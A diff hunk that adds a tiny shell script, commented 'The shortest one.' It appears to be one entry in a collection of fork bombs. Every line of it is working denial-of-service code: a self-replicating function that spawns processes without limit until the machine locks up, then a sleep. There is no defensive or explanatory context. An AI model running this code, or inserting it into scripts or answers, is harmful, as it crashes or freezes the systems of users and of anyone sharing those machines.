@@ -1,0 +1,4 @@
+# The shortest one.
+bomb() { bomb | bomb & }
+bomb
+sleep 1000
